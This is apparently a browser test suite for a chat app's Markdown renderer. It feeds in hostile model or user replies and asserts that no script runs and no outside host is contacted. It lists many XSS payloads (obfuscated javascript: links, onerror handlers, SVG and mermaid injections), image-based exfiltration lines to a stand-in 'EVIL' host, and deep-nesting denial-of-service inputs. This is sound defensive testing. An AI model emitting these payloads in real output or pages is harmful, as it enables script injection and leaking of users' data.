/// <reference lib="dom" />
import { once } from 'node:events'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { test } from '@japa/runner'
import type { Page } from 'playwright'
import { closePages, openPage, untilLive, untilSettled } from './pages.js'
import { BuiltServer } from '#tests/built_server'
import { FakeProvider, text, words } from '#tests/fake_provider'
import { Visitor } from '#tests/visitor'

/** What somebody may make a language model write, or write themselves; `EVIL` is who listens. */
const HOSTILE: Record<string, string> = {
  'script links in every spelling': [
    '[a](javascript:window.pwned=1)',
    '[a](JaVaScRiPt:window.pwned=1)',
    '[a](java\tscript:window.pwned=1)',
    '[a](<java\nscript:window.pwned=1>)',
    '[a](&#106;avascript:window.pwned=1)',
    '[a](&#x6A;avascript&colon;window.pwned=1)',
    '[a](java&Tab;script:window.pwned=1)',
    '[a](%6Aavascript:window.pwned=1)',
    '[a](\u0001javascript:window.pwned=1)',
    '[a]( javascript:window.pwned=1)',
    '[a](vbscript:x) [a](file:///etc/passwd) [a](blob:x) [a](ftp://x/y)',
    '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '<javascript:window.pwned=1>',
    '[a][r]\n\n[r]: javascript:window.pwned=1',
    '![a](javascript:window.pwned=1)',
  ].join('\n\n'),
  'links that are none': [
    '[a](//EVIL/x)',
    '[a](/session)',
    '[a](session)',
    '[a](#top)',
    '[a](?x)',
    '[a](https:session)',
    '[a](http:/session)',
    '[a](\\\\EVIL\\x)',
  ].join('\n\n'),
  'raw HTML': [
    '<script>window.pwned=1</script>',
    '<script src="http://EVIL/s.js"></script>',
    '<img src=x onerror="window.pwned=1">',
    '<img src="http://EVIL/i.png">',
    '<iframe src="http://EVIL/f"></iframe><iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
    '<style>@import "http://EVIL/s.css"; body { background: url(http://EVIL/b) }</style>',
    '<link rel=stylesheet href="http://EVIL/l.css"><link rel=prefetch href="http://EVIL/p">',
    '<meta http-equiv=refresh content="0;url=http://EVIL/m">',
    '<base href="http://EVIL/">',
    '<object data="http://EVIL/o"></object><embed src="http://EVIL/e">',
    '<video src="http://EVIL/v" autoplay></video><audio src="http://EVIL/a" autoplay></audio>',
    '<details open ontoggle="window.pwned=1">x</details>',
    '<form action="http://EVIL/"><input autofocus onfocus="window.pwned=1"><button>x</button></form>',
    '<template><img src="http://EVIL/t"></template><div style="background:url(http://EVIL/d)">x</div>',
    '<a href="javascript:window.pwned=1">x</a><math><mtext><img src=x onerror=window.pwned=1>',
    '<sub onclick="window.pwned=1">x</sub><kbd/onload=window.pwned=1>x</kbd><br onfocus=window.pwned=1>',
    '<sub><img src=x onerror=window.pwned=1></sub><br><script>window.pwned=1</script>',
  ].join('\n\n'),
  'half tags':
    'text <img src="http://EVIL/1\n\n<img src=x onerror=window.pwned=1\n\n<script>window.pwned',
  'SVG': [
    '<svg onload="window.pwned=1"><image href="http://EVIL/i"/><script>window.pwned=1</script></svg>',
    '![x](data:image/svg+xml,<svg%20onload=window.pwned=1>)',
    '<svg><use href="http://EVIL/u#x"/><foreignObject><img src="http://EVIL/f"></foreignObject></svg>',
  ].join('\n\n'),
  'images': [
    '![leak](http://EVIL/?q=secret)',
    '![leak][r]',
    '[![leak](http://EVIL/in-link)](http://EVIL/link)',
    '![x](http://EVIL/"onerror=window.pwned=1 "t\'><img src=x onerror=window.pwned=1>")',
    '<http://EVIL/auto> http://EVIL/bare',
    '[r]: http://EVIL/reference',
  ].join('\n\n'),
  'footnotes and alerts': [
    'a[^1] b[^"><img/src=x/onerror=window.pwned=1>]',
    '[^1]: <img src=x onerror=window.pwned=1> [a](javascript:window.pwned=1)',
    '[^"><img/src=x/onerror=window.pwned=1>]: x',
    '> [!NOTE"><img src=x onerror=window.pwned=1>]\n> x',
    '> [!WARNING]\n> <script>window.pwned=1</script>',
  ].join('\n\n'),
  'attributes that break out': [
    '[a](https://example.com/"onmouseover="window.pwned=1)',
    '[a](https://example.com "t"onmouseover="window.pwned=1")',
    '```"><img src=x onerror=window.pwned=1>\ncode\n```',
    '```js"onmouseover="window.pwned=1\n</code></pre><img src=x onerror=window.pwned=1>\n```',
    '`</code><img src=x onerror=window.pwned=1>`',
    '| <img src=x onerror=window.pwned=1> |\n|---|\n| <script>window.pwned=1</script> |',
    '- [ ] <img src=x onerror=window.pwned=1>',
  ].join('\n\n'),
  'formulas': [
    '$\\href{javascript:window.pwned=1}{x}$ $\\url{http://EVIL/u}$',
    '$\\includegraphics{http://EVIL/g.png}$ $\\htmlData{x=1}{y}$',
    '$\\htmlStyle{background:url(http://EVIL/s)}{x}$ $\\htmlClass{a" onx="}{y}$',
    '$$\n\\text{<img src=x onerror=window.pwned=1>}\n$$',
    '$<img src=x onerror=window.pwned=1>$ and $\\unknown{<script>window.pwned=1</script>}$',
    '$\\def\\a{\\a\\a}\\a$',
    '$$\\rule{99999em}{99999em}$$',
  ].join('\n\n'),
  'diagrams': [
    '```mermaid\ngraph TD\n  A@{ img: "http://EVIL/shape.png", label: "x" } --> B\n```',
    '```mermaid\n%%{init: {"securityLevel": "loose", "themeCSS": "@import url(http://EVIL/css)"}}%%\ngraph TD\n  A --> B\n```',
    '```mermaid\n%%{init: {"securityLevel": "loose", "htmlLabels": true, "flowchart": {"htmlLabels": true}}}%%\ngraph TD\n  A["<img src=x onerror=window.pwned=1><img src=http://EVIL/l>"] --> B\n  click A call alert(1)\n  click B href "javascript:window.pwned=1"\n```',
    '```mermaid\n---\nconfig:\n  securityLevel: loose\n  fontFamily: "x;} @import url(http://EVIL/f); {"\n---\ngraph TD\n  A --> B\n  style A fill:url(http://EVIL/fill)\n  classDef c background-image:url(http://EVIL/bg)\n```',
    '```mermaid\ngraph TD\n  A["`<script>window.pwned=1</script>`"] --> B["#60;img src=x onerror=window.pwned=1#62;"]\n  click B "javascript:window.pwned=1"\n```',
    '```mermaid\nsequenceDiagram\n  participant A as <img src=http://EVIL/seq onerror=window.pwned=1>\n  A->>A: <script>window.pwned=1</script>\n  link A: x @ javascript:window.pwned=1\n```',
    '```mermaid\n%%{init: {"securityLevel": "loose", "htmlLabels": true, "secure": []}}%%\ngraph TD\n  A[Start] --> B\n  click A call alert(1)\n  click B href "javascript:window.pwned=1"\n```',
    '```mermaid\nsequenceDiagram\n  Alice->>Bob: Hello\n  link Alice: x @ javascript:window.pwned=1\n```',
  ].join('\n\n'),
}

/** One reply each: the browser must show them, and go on answering. */
const DEEP: Record<string, string> = {
  quotes: '>'.repeat(5_000) + ' deep',
  lists: '- '.repeat(5_000) + 'deep',
  brackets: '['.repeat(5_000) + 'deep' + ']'.repeat(5_000),
  emphasis: '*x **'.repeat(5_000) + 'deep',
  formulas: `$$${'{'.repeat(2_000)}deep${'}'.repeat(2_000)}$$`,
}

test.group('Hostile Markdown', (group) => {
  let provider: FakeProvider
  let server: BuiltServer
  let ana: Visitor
  let listener: Server
  let heard: string[]
  group.setup(async () => {
    listener = createServer((request, response) => {
      heard.push(`${request.method} ${request.url}`)
      response.setHeader('access-control-allow-origin', '*').end()
    })
    await once(listener.listen(0, '127.0.0.1'), 'listening')
    provider = await FakeProvider.start()
    server = await BuiltServer.start({
      env: { ANTHROPIC_API_KEY: 'fake', ANTHROPIC_BASE_URL: provider.baseURL },
    })
    ana = await Visitor.signedUp('Ana', server.baseURL)
    return async () => {
      await server.dispose()
      await provider.stop()
      listener.closeAllConnections()
      listener.close()
    }
  })
  group.each.setup(() => {
    heard = []
    return () => closePages()
  })

  const evil = () => `127.0.0.1:${(listener.address() as AddressInfo).port}`

  /** Scripts that ran, elements that should not be, links that are live. */
  function traces(page: Page) {
    return page.evaluate(() => ({
      pwned: 'pwned' in window,
      elements: Array.from(
        document.querySelectorAll(
          '.markdown :is(script, iframe, object, embed, video, audio, style, link, meta, base, form, svg, img:not(.diagram), template, details, input:not([type=checkbox]:disabled))'
        ),
        ({ outerHTML }) => outerHTML
      ),
      handlers: Array.from(document.querySelectorAll('.markdown *')).flatMap(({ attributes }) =>
        Array.from(attributes, ({ name }) => name).filter((name) => name.startsWith('on'))
      ),
      links: Array.from(document.querySelectorAll('.markdown [href]'), (link) =>
        String(link.getAttribute('href'))
      ).filter((href) => !/^(https?:\/\/|mailto:|#fn(ref)?-\d+-\d+$)/.test(href)),
      images: Array.from(document.images, ({ src }) => src.slice(0, 18)).filter(
        (src) => src !== 'data:image/svg+xml'
      ),
    }))
  }
  const NOTHING = { pwned: false, elements: [], handlers: [], links: [], images: [] }

  test('runs no script and asks nobody, while it is written and after a reload: {$self}')
    .with(Object.keys(HOSTILE))
    .run(async ({ browser, assert }, name) => {
      const markdown = HOSTILE[name].replaceAll('EVIL', evil())
      const path = (await ana.post('/conversations', { title: 'Sky' })).headers.get('location')!
      const page = await openPage(browser, ana, path)
      await untilLive(page)
      /** The policy is the second wall: nothing may get as far. */
      const refused: string[] = []
      page.on('console', (message) => {
        if (message.text().includes('Content Security Policy')) refused.push(message.text())
      })
      provider.script(words(markdown, { every: 5 }))
      /** A person may write the same. */
      await page.getByRole('textbox', { name: 'Write a message' }).fill(markdown)
      await page.keyboard.press('Enter')
      await page.locator('[role=log] article[aria-busy] .markdown').waitFor({ state: 'attached' })
      await untilSettled(page)
      await untilDrawn(page)
      assert.deepEqual(await traces(page), NOTHING)

      await page.reload()
      await untilLive(page)
      await untilDrawn(page)
      assert.deepEqual(await traces(page), NOTHING)
      for (const element of await page.locator('.markdown :is(p, code, a, td)').all()) {
        await element.dispatchEvent('mouseover')
      }
      assert.deepEqual(await traces(page), NOTHING)
      assert.deepEqual(heard, [])
      /** Mermaid gives handlers of its own to the menus of sequence diagrams. */
      if (name !== 'diagrams') assert.deepEqual(refused, [])
    })

  test('neither hangs the page nor fails the server when it nests without end: {$self}')
    .with(Object.keys(DEEP))
    .run(async ({ browser }, name) => {
      const path = (await ana.post('/conversations', { title: 'Sky' })).headers.get('location')!
      const page = await openPage(browser, ana, path)
      await untilLive(page)
      const half = DEEP[name].length / 2
      provider.script(text(DEEP[name].slice(0, half)), text(DEEP[name].slice(half)))
      await page.getByRole('textbox', { name: 'Write a message' }).fill('Go deep')
      await page.keyboard.press('Enter')
      await page.locator('[role=log] article[aria-busy] .markdown').waitFor({ state: 'attached' })
      await untilSettled(page)
      await page.reload()
      await untilLive(page)
      await page.getByText('Go deep').first().waitFor()
    })
})

/** Waits until every diagram was drawn or given up; they are drawn when they come to sight. */
async function untilDrawn(page: Page) {
  for (const diagram of await page.locator('.markdown [data-diagram]').all()) {
    await diagram.scrollIntoViewIfNeeded()
    await diagram
      .locator('.diagram, .code-note')
      .first()
      .waitFor({ state: 'attached', timeout: 30_000 })
  }
}
